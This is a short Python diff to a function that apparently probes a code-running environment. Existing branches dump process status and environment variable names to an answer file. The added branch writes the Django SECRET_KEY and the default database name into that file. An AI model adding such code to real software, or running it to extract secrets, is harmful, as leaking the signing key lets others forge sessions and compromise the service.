@@ -23,6 +23,12 @@ def main(source: Path, target: Path, answer: Path, language: str) -> None:
         status = Path("/proc/self/status").read_text()
         answer.write_text(json.dumps({"ok": True, "status": status}))
         return
+    elif what == "secrets":
+        from django.conf import settings
+
+        answer.write_text(json.dumps({"ok": True, "key": settings.SECRET_KEY,
+                                      "database": str(settings.DATABASES["default"]["NAME"])}))
+        return
     elif what == "environment":
         answer.write_text(json.dumps({"ok": True, "names": sorted(os.environ)}))
         return
